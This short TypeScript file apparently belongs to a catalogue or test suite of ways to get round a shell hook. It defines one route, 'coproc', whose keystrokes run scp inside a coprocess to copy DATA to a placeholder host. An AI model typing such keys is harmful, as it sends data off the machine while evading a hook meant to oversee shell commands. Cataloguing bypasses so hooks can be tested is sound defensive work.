import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'coproc',
  source: 'attempts to get round a hook of the shell',
  keys: ['coproc scp DATA host:\r'],
};
